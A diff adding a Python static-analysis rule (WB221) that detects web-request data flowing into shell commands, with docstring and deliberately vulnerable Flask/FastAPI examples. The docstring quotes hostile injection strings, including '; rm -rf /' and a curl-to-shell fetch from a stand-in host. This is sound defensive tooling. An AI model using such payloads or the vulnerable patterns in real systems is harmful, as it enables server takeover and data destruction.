@@ -1,0 +1,114 @@
+"""WB221 shell-command-from-request: a shell command carrying request data."""
+
+from __future__ import annotations
+
+import ast
+from typing import Iterable
+
+from ..model import Category, Finding, Severity
+from . import Example, Rule, RuleContext
+from ._request_data import RequestData
+from ._syntax import call_qualname, functions, import_aliases, is_handler, is_test_file, is_true, keyword
+
+# Functions that hand a string to a shell.
+SHELL_FUNCTIONS = ("os.system", "os.popen", "os.popen2", "os.popen3", "subprocess.getoutput",
+                   "subprocess.getstatusoutput", "commands.getoutput", "os.execl", "os.execlp", "os.spawnl")
+# Functions that run a shell only with shell=True.
+SUBPROCESS = ("subprocess.run", "subprocess.call", "subprocess.check_call", "subprocess.check_output",
+              "subprocess.Popen", "asyncio.create_subprocess_shell")
+
+
+class ShellCommandFromRequest(Rule):
+    """Flags a shell command that carries request data.
+
+    ## What it does
+    Follows request data inside a function and flags `os.system()`, `os.popen()`,
+    `subprocess.getoutput()` and `subprocess.*(..., shell=True)` /
+    `asyncio.create_subprocess_shell()` calls whose command carries it. bandit's B602/B604/
+    B605 (any shell use) map onto the same category; this rule adds the request-data flow.
+
+    ## Why is this bad?
+    `; rm -rf /` or `$(curl evil | sh)` in a field runs on the server.
+
+    ## Example
+    ```python
+    host = request.args["host"]
+    out = subprocess.check_output(f"ping -c 1 {host}", shell=True)
+    ```
+
+    ## Use instead
+    ```python
+    out = subprocess.check_output(["ping", "-c", "1", host])  # no shell; validate host too
+    ```
+    """
+
+    id = "WB221"
+    name = "shell-command-from-request"
+    category = Category.INJECTION
+    severity = Severity.HIGH
+    confidence = Severity.HIGH
+    cwe = 78
+    fixed_by = None
+
+    VALID = (
+        Example(
+            "import subprocess\n"
+            "from flask import Flask, request\n"
+            "app = Flask(__name__)\n"
+            "\n"
+            "@app.route('/api/ping')\n"
+            "def ping():\n"
+            "    host = request.args['host']\n"
+            "    return subprocess.check_output(['ping', '-c', '1', host]).decode()\n"
+        ),
+        Example(
+            "import os\n"
+            "from fastapi import FastAPI\n"
+            "app = FastAPI()\n"
+            "\n"
+            "@app.post('/backup')\n"
+            "def backup():\n"
+            "    os.system('pg_dump app > /backups/app.sql')\n"
+        ),
+    )
+    INVALID = (
+        Example(
+            "import os, subprocess\n"
+            "from flask import Flask, request\n"
+            "app = Flask(__name__)\n"
+            "\n"
+            "@app.route('/api/ping')\n"
+            "def ping():\n"
+            "    host = request.args['host']\n"
+            "    os.system('ping -c 1 ' + host)\n"
+            "    return subprocess.check_output(f'nslookup {host}', shell=True).decode()\n",
+            lines=(8, 9),
+        ),
+        Example(
+            "import subprocess\n"
+            "from fastapi import FastAPI\n"
+            "app = FastAPI()\n"
+            "\n"
+            "@app.get('/convert')\n"
+            "def convert(name: str):\n"
+            "    subprocess.run('convert ' + name + ' out.png', shell=True)\n",
+            lines=(7,),
+        ),
+    )
+
+    def check(self, ctx: RuleContext) -> Iterable[Finding]:
+        if is_test_file(ctx.file):
+            return
+        aliases = import_aliases(ctx.tree)
+        for fn in functions(ctx.tree):
+            data = RequestData(fn, ctx.tree, handler=is_handler(ctx, fn))
+            if not data.tainted and not data.reads_request():
+                continue
+            for node in ast.walk(fn):
+                if not isinstance(node, ast.Call) or not node.args:
+                    continue
+                qual = call_qualname(node, aliases)
+                shell = qual in SHELL_FUNCTIONS or (qual in SUBPROCESS and (
+                    is_true(keyword(node, "shell")) or qual.endswith("_shell")))
+                if shell and data.is_tainted(node.args[0]):
+                    yield self.finding(ctx, node.lineno, f"shell command built from request data ({qual})")
